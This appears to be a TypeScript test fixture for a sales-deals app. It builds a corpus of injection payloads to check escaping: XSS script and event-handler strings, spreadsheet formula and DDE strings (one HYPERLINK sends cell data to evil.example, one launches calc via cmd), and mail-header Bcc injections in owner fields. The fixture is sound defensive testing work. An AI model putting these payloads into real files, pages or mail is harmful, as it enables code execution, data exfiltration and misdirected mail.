/**
 * The hostile corpus every injection test draws from: text a user (or a file made
 * by someone else) can put in a deal's name, account, next step, lost reason or
 * owner, chosen to break out of HTML, of a spreadsheet's "this is text" and of a
 * mail header. `SCRIPT_FLAG` is the window property the script payloads set, so a
 * browser test can ask whether any of them ran.
 */

/** The global a payload sets when it runs; a page where it stays undefined ran none of them. */
export const SCRIPT_FLAG = '__pwned';

/** Markup and script payloads. Each one, if parsed as HTML and run, sets window.__pwned. */
export const HTML_PAYLOADS: readonly string[] = [
  `<script>window.${SCRIPT_FLAG}=1</script>`,
  `<img src=x onerror="window.${SCRIPT_FLAG}=2">`,
  `"><svg onload="window.${SCRIPT_FLAG}=3">`,
  `' onmouseover='window.${SCRIPT_FLAG}=4' x='`,
  `</td></tr></table><iframe srcdoc="<script>parent.${SCRIPT_FLAG}=5</script>"></iframe>`,
  `javascript:window.${SCRIPT_FLAG}=6`,
  `<a href="javascript:window.${SCRIPT_FLAG}=7">click</a>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe; the ${7*7} must stay literal text.
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '<b>bold</b> & <i>co</i>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
];

/**
 * Text a spreadsheet would take for a formula (or DDE call) if written or imported
 * as is. The OWASP list: = + - @ first, and tab or carriage return first.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];

/** Text that is harmless but easy to mangle: look-alikes, bidi, zero-width, huge. */
export const ODD_TEXT: readonly string[] = [
  'Ｄeal ＝1+1', // full-width letters and a full-width equals sign
  'Аcme', // Cyrillic А
  'pay\u202Egnp.exe', // right-to-left override
  'zero\u200Bwidth',
  'line one\nline two',
];

/** Owner cells that must never reach a mail header as more than one valid address. */
export const HOSTILE_OWNERS: readonly string[] = [
  'a@b.com, evil@x.com',
  'a@b.com;evil@x.com',
  'a@b.com\nBcc: evil@x.com',
  'a@b.com\r\nBcc: evil@x.com',
  '"evil"@x.com',
  'mailto:x@y.com',
  'x@y.com?bcc=evil@x.com',
  '=HYPERLINK("http://evil","x")',
  '<script>alert(1)</script>@x.com',
  'a@b.com\u0000evil@x.com',
  'a b@c.com',
  'ann@example.com\u0085', // NEL: not a space to JavaScript's \s or trim()
  'ann\u202E@example.com', // right-to-left override: shows a different address than it is
  'ann\u0001@example.com',
];

/**
 * Owner cells that hold one valid address, and the address each one means: the
 * only places mail may go (besides the configured manager). The address keeps the
 * case it was typed in (mail servers match it without case).
 */
export const VALID_OWNERS: readonly (readonly [string, string])[] = [
  ['ann@example.com', 'ann@example.com'],
  ['<bob@example.com>', 'bob@example.com'],
  ['Cy Doe <CY@Example.com>', 'CY@Example.com'],
];

/** Every hostile text, for the surfaces that take any text. */
export const ALL_TEXT: readonly string[] = [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, ...ODD_TEXT];

/** True when `text` starts as a spreadsheet formula would (the OWASP list). */
export function formulaLike(text: string): boolean {
  return /^[=+\-@\t\r]/.test(text);
}

/**
 * Rows of hostile deals with the headers they go under: one deal per payload, each
 * payload in the name and rotated through account, next step and lost reason, all
 * sitting still long enough (stage changed 2025-01-01) to be stale on 2026-11-23.
 * Owners cycle through the valid and hostile owner cells.
 */
export const HOSTILE_DEAL_HEADERS = [
  'Deal ID',
  'Deal',
  'Account',
  'Owner',
  'Stage',
  'Amount',
  'Created',
  'Stage changed',
  'Next step',
  'Lost reason',
] as const;

export function hostileDealRows(changed: unknown, created: unknown = changed): unknown[][] {
  const owners = [...VALID_OWNERS.map(([cell]) => cell), ...HOSTILE_OWNERS];
  return ALL_TEXT.map((text, i) => {
    const lost = i % 5 === 4;
    return [
      // IDs are formula-like too: they go to History and Snapshots verbatim.
      i % 3 === 0 ? `=ID${i}` : `H-${i}`,
      text,
      ALL_TEXT[(i + 1) % ALL_TEXT.length],
      owners[i % owners.length],
      lost ? 'Lost' : 'Proposal',
      1000 + i,
      created,
      changed,
      ALL_TEXT[(i + 2) % ALL_TEXT.length],
      lost ? ALL_TEXT[(i + 3) % ALL_TEXT.length] : '',
    ];
  });
}
